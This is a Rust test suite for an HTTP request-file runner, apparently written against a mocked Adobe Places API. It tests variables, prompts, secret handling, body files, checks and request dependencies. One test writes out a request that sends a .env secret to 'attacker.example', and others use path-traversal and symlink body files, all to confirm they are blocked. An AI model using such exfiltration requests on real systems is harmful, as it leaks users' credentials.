//! What a request's file gives to it: variables, prompts, files, other requests' answers, checks.

use crate::home::{World, files_below};
use mudbrick_engine::view::{ExchangeView, ProfileDraft, RequestNoteKind, RequestOrigin};
use mudbrick_engine::{
    Confirmation, JobKind, LockCause, OutsideFiles, RequestAddress, Secret, Sending, Surroundings,
};
use mudbrick_model::{ErrorCode, Problem, ProfileId, Risk};
use std::fs;
use std::io::Write as _;
use std::path::PathBuf;

const HEADERS: &str = "Authorization: Bearer {{ACCESS_TOKEN}}\nx-api-key: {{API_KEY}}\nx-gw-ims-org-id: {{IMS_ORG}}\n";
const LIBRARIES: &str = "https://api-places.adobe.io/places/placesapi/v1/libraries";
const SERVED: &str = "/places/placesapi/v1/libraries";

/// A home with a profile and a file of requests.
struct Files {
    world: World,
    id: ProfileId,
}

impl Files {
    async fn with(text: &str) -> Self {
        Self::with_risk(text, Risk::Development).await
    }

    async fn with_risk(text: &str, risk: Risk) -> Self {
        let world = World::start().await;
        let id = world.profile_with("Places", |draft| draft.risk = risk).summary.id;
        let files = Self { world, id };
        files.write("mine.http", text.replace("HEADERS\n", HEADERS).as_bytes());
        files
    }

    fn folder(&self) -> PathBuf {
        self.world.folder.path().join("requests")
    }

    fn write(&self, name: &str, bytes: &[u8]) {
        let place = self.folder().join(name);
        fs::create_dir_all(place.parent().unwrap()).unwrap();
        fs::File::create(place).unwrap().write_all(bytes).unwrap();
    }

    fn sending(&self, name: &str, variables: &[(&str, &str)]) -> Sending {
        let requests = self.world.engine.requests();
        let (request, surroundings) =
            requests.find_with_surroundings(&format!("mine#{name}")).unwrap();
        let variables = variables.iter().map(|(name, value)| (name.to_string(), value.to_string()));
        Sending { surroundings, variables: variables.collect(), ..Sending::of(request) }
    }

    async fn send_as(
        &self,
        sending: Sending,
        confirmation: Confirmation,
    ) -> Result<ExchangeView, Problem> {
        let job = self.world.engine.jobs().start(JobKind::Send);
        self.world.engine.requests().send_in_file(&job, &self.id, sending, confirmation).await
    }

    async fn send(&self, name: &str) -> Result<ExchangeView, Problem> {
        self.send_as(self.sending(name, &[]), Confirmation::NotGiven).await
    }

    fn count(&self, path: &str) -> usize {
        self.world.control().count(path)
    }

    fn is_on_disk(&self, text: &str) -> bool {
        let kept = files_below(self.world.folder.path());
        let mut kept = kept.iter().filter(|(path, _)| !path.contains("/requests/"));
        kept.any(|(_, bytes)| bytes.windows(text.len()).any(|part| part == text.as_bytes()))
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn variables_of_the_file_are_filled_and_a_ring_is_named() {
    let files = Files::with(&format!(
        "@HOST = https://api-places.adobe.io\n@BASE = {{{{HOST}}}}/places\n@ID = {{{{$guid}}}}\n@A = {{{{B}}}}\n@B = {{{{A}}}}\n\n\
         ### List\nGET {{{{BASE}}}}/placesapi/v1/libraries\nx-one: {{{{ID}}}}\nx-two: {{{{ID}}}}\nHEADERS\n\n\
         ### Ring\nGET {LIBRARIES}?a={{{{A}}}}\nHEADERS\n"
    ))
    .await;
    let sent = files.send("List").await.unwrap();
    assert_eq!(sent.summary.status, Some(200), "{sent:?}");
    let value = |name| sent.sent_headers.iter().find(|header| header.name == name).unwrap();
    assert_eq!(value("x-one").value, value("x-two").value);
    assert_eq!(value("x-one").value.len(), 36);
    let problem = files.send("Ring").await.unwrap_err();
    assert!(problem.message.contains("{{A}} stands for {{B}} stands for {{A}}"), "{problem:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_dotenv_gives_is_a_secret() {
    let files = Files::with(&format!(
        "### Send\nGET {LIBRARIES}?key={{{{$dotenv KEY}}}}\nHEADERS\n\n### Elsewhere\nGET https://attacker.example/?key={{{{$dotenv KEY}}}}\n"
    ))
    .await;
    let problem = files.send("Send").await.unwrap_err();
    assert!(problem.message.contains("no .env beside"), "{problem:?}");
    files.write(".env", b"KEY=canary-of-the-day\n");
    let sent = files.send("Send").await.unwrap();
    assert!(!format!("{sent:?}").contains("canary"), "{sent:?}");
    assert!(sent.summary.url.contains("key="), "{sent:?}");
    assert!(!files.is_on_disk("canary-of-the-day"));
    let problem = files.send("Elsewhere").await.unwrap_err();
    assert_eq!(problem.code, ErrorCode::HostNotAllowed, "{problem:?}");
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn a_dotenv_that_leads_elsewhere_is_none() {
    let files =
        Files::with(&format!("### Send\nGET {LIBRARIES}?key={{{{$dotenv KEY}}}}\nHEADERS\n")).await;
    let elsewhere = files.world.folder.path().join("elsewhere");
    fs::File::create(&elsewhere).unwrap().write_all(b"KEY=canary\n").unwrap();
    std::os::unix::fs::symlink(&elsewhere, files.folder().join(".env")).unwrap();
    let problem = files.send("Send").await.unwrap_err();
    assert!(problem.message.contains("no .env beside"), "{problem:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_prompt_is_answered_or_nothing_is_sent() {
    let files = Files::with(&format!(
        "### Make\n# @prompt NAME The library's name\n# @prompt PASSWORD\nPOST {LIBRARIES}\nHEADERS\nContent-Type: application/json\n\n\
         {{\"name\": \"{{{{NAME}}}} {{{{PASSWORD}}}}\"}}\n"
    ))
    .await;
    let opened = files
        .world
        .engine
        .requests()
        .open(RequestAddress::parse("mine#Make").unwrap(), RequestOrigin::Own);
    let prompts = opened.unwrap().prompts;
    assert_eq!((prompts[0].name.as_str(), prompts[0].is_secret), ("NAME", false));
    assert_eq!(prompts[0].description.as_deref(), Some("The library's name"));
    assert!(prompts[1].is_secret);
    let problem = files.send("Make").await.unwrap_err();
    assert!(problem.message.contains("NAME (The library's name)"), "{problem:?}");
    assert!(problem.remedy_text().unwrap().contains("--var NAME="), "{problem:?}");
    assert_eq!(files.count(SERVED), 0);
    let answered = [("NAME", "Quay"), ("PASSWORD", "canary-password")];
    let sending = files.sending("Make", &answered);
    let sent = files.send_as(sending, Confirmation::NotGiven).await.unwrap();
    assert!(matches!(sent.summary.status, Some(200 | 201)), "{sent:?}");
    assert!(sent.sent_body.unwrap().contains("Quay"));
    assert!(!files.is_on_disk("canary-password"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_is_asked_for_what_the_profile_knows() {
    let files = Files::with(&format!(
        "### List\n# @prompt LIMIT How many?\n# @prompt API_KEY\nGET {LIBRARIES}?limit={{{{LIMIT}}}}\nHEADERS\n"
    ))
    .await;
    let requests = files.world.engine.requests();
    let asked = requests.prompts(&files.id, &files.sending("List", &[])).unwrap();
    assert_eq!(asked.iter().map(|it| it.name.as_str()).collect::<Vec<_>>(), ["LIMIT"]);
    let set = |draft: &mut ProfileDraft| {
        draft.name = "Other".to_owned();
        draft.variables.insert("LIMIT".to_owned(), "1".to_owned());
    };
    let id = files.world.profile_with("Places", set).summary.id;
    assert_eq!(requests.prompts(&id, &files.sending("List", &[])).unwrap(), []);
    let sent = Files { id, ..files }.send("List").await.unwrap();
    assert!(sent.summary.url.ends_with("?limit=1"), "{}", sent.summary.url);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_may_be_a_file_beside_the_request_and_no_other() {
    let post = |name: &str, line: &str| {
        format!(
            "### {name}\nPOST {LIBRARIES}\nHEADERS\nContent-Type: application/json\n\n{line}\n\n"
        )
    };
    let files = Files::with(
        &[
            post("As it is", "< ./bodies/plain.json"),
            post("Filled", "<@ bodies/filled.json"),
            post("Above", "< ../above.json"),
            post("Linked", "< ./linked.json"),
            post("Gone", "< ./gone.json"),
        ]
        .concat(),
    )
    .await;
    files.write("bodies/plain.json", br#"{"name": "{{API_KEY}}"}"#);
    files.write("bodies/filled.json", br#"{"name": "{{API_KEY}}"}"#);
    files.write("../above.json", br#"{"name": "above"}"#);
    #[cfg(unix)]
    std::os::unix::fs::symlink(
        files.folder().join("../above.json"),
        files.folder().join("linked.json"),
    )
    .unwrap();
    let (request, requests) =
        (files.sending("As it is", &[]).request, files.world.engine.requests());
    let alone = requests.check(&files.id, &request, &Surroundings::default()).unwrap();
    assert!(alone.warnings.iter().any(|said| said.contains("< ./bodies/plain.json")), "{alone:?}");
    let plain = files.send("As it is").await.unwrap();
    assert_eq!(plain.sent_body.as_deref(), Some(r#"{"name": "{{API_KEY}}"}"#));
    let filled = files.send("Filled").await.unwrap();
    assert!(!filled.sent_body.unwrap().contains("{{"));
    let before = files.count(SERVED);
    for name in ["Above", "Linked", "Gone"] {
        let problem = files.send(name).await.unwrap_err();
        assert_eq!(problem.code, ErrorCode::InvalidInput, "{name}: {problem:?}");
    }
    assert_eq!(files.count(SERVED), before);
    let sending = Sending { outside: OutsideFiles::Allowed, ..files.sending("Above", &[]) };
    let sent = files.send_as(sending, Confirmation::NotGiven).await.unwrap();
    assert_eq!(sent.sent_body.as_deref(), Some(r#"{"name": "above"}"#));
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_are_checked_and_give_values_to_other_requests() {
    let files = Files::with(&format!(
        "### List\n# @name list\n# @check status 200\n# @check header content-type contains json\n# @check body $[0].id exists\n\
         # @check body $[0].id == nothing\n# @check time < 1 ms\n# @capture FIRST = body $[0].id\nGET {LIBRARIES}\nHEADERS\n\n\
         ### One\nGET {LIBRARIES}/{{{{list.response.body.$[0].id}}}}?again={{{{FIRST}}}}\nHEADERS\n"
    ))
    .await;
    // It was not sent yet, and is sent first.
    let one = files.send("One").await.unwrap();
    assert_eq!(files.count(SERVED), 2);
    let list = files.send("List").await.unwrap();
    let passed: Vec<bool> = list.checks.iter().map(|check| check.passed).collect();
    assert_eq!(passed[..4], [true, true, true, false], "{:?}", list.checks);
    let first = list.captured[0].value.clone().unwrap();
    assert_eq!(list.checks[3].found.as_deref(), Some(first.as_str()));
    assert!(one.summary.url.ends_with(&format!("/{first}?again={first}")), "{}", one.summary.url);
    // Its answer is there now.
    files.send("One").await.unwrap();
    assert_eq!(files.count(SERVED), 4);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_in_the_history_is_enough() {
    let files = Files::with(&format!(
        "### List\n# @name list\nGET {LIBRARIES}\nHEADERS\n\n### One\nGET {LIBRARIES}/{{{{list.response.body.$[0].id}}}}\nHEADERS\n"
    ))
    .await;
    files.send("List").await.unwrap();
    // What is in memory goes with the key; the history stays.
    files.world.engine.vault().lock(LockCause::Person);
    files.world.engine.vault().unlock(Some(Secret::new("correct horse".to_owned()))).unwrap();
    files.send("One").await.unwrap();
    assert_eq!(files.count(SERVED), 2, "the list is not asked for again");
}

const LOGIN: &str = "### Login\n# @name login\n# @capture TOKEN_OF_LOGIN = body $.access_token\nPOST https://ims-na1.adobelogin.com/ims/token/v3\nContent-Type: application/x-www-form-urlencoded\n\n\
    grant_type=client_credentials\n&client_id={{API_KEY}}\n&client_secret={{SECRET}}\n&scope=openid,AdobeID\n\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_writing_request_is_not_sent_first_unasked_and_its_token_stays_a_secret() {
    let files = Files::with(&format!(
        "{LOGIN}### List\nGET {LIBRARIES}\nAuthorization: Bearer {{{{login.response.body.$.access_token}}}}\nx-api-key: {{{{API_KEY}}}}\n\
         x-gw-ims-org-id: {{{{IMS_ORG}}}}\n"
    ))
    .await;
    let secret = files.world.project("Places").client_secret;
    let sending = || files.sending("List", &[("SECRET", &secret)]);
    let requests = files.world.engine.requests();
    let (before, _) = requests.before_sending(&files.id, &sending()).unwrap();
    assert!(before.reasons_to_ask[0].contains("Login is sent first"), "{before:?}");
    let problem = files.send_as(sending(), Confirmation::NotGiven).await.unwrap_err();
    assert_eq!(problem.code, ErrorCode::NeedsConfirmation, "{problem:?}");
    assert_eq!((files.count(SERVED), files.count("/ims/token/v3")), (0, 0));
    let sent = files.send_as(sending(), Confirmation::Given).await.unwrap();
    assert_eq!(sent.summary.status, Some(200), "{sent:?}");
    assert!(!format!("{sent:?}").contains("eyJ"), "{sent:?}");
    let login = files.send_as(files.sending("Login", &[("SECRET", &secret)]), Confirmation::Given);
    let login = login.await.unwrap();
    let captured = &login.captured[0];
    assert!(captured.is_secret && captured.value.is_none(), "{captured:?}");
    assert!(!files.is_on_disk("eyJ"), "no token is kept");
}

#[tokio::test(flavor = "multi_thread")]
async fn requests_that_need_each_other_are_named() {
    let files = Files::with(&format!(
        "### A\n# @name a\nGET {LIBRARIES}?x={{{{b.response.headers.x}}}}\nHEADERS\n\n### B\n# @name b\nGET {LIBRARIES}?x={{{{a.response.headers.x}}}}\nHEADERS\n"
    ))
    .await;
    let problem = files.send("A").await.unwrap_err();
    assert!(
        problem.message.contains("A needs the answer of B needs the answer of A"),
        "{problem:?}"
    );
    assert_eq!(files.count(SERVED), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_done_is_noted_and_no_log_leaves_no_trace() {
    let files = Files::with(&format!(
        "### Send\n# @no-log\n# @loop 3\nGET {LIBRARIES}\nHEADERS\n\n> {{%\nclient.log('x');\n%}}\n\n### Other\nGRPC x.io/a\n"
    ))
    .await;
    let opened = files
        .world
        .engine
        .requests()
        .open(RequestAddress::parse("mine#Send").unwrap(), RequestOrigin::Own);
    let notes = opened.unwrap().notes;
    let kinds: Vec<_> = notes.iter().map(|note| note.kind).collect();
    let expected = [RequestNoteKind::Directive, RequestNoteKind::Script, RequestNoteKind::Foreign];
    assert_eq!(kinds, expected, "{notes:?}");
    assert_eq!(notes[0].text, "@loop is not supported and has no effect.");
    let sent = files.send("Send").await.unwrap();
    assert_eq!(sent.summary.status, Some(200));
    assert!(files.world.engine.history().list(None, "", None, 10).unwrap().is_empty());
}
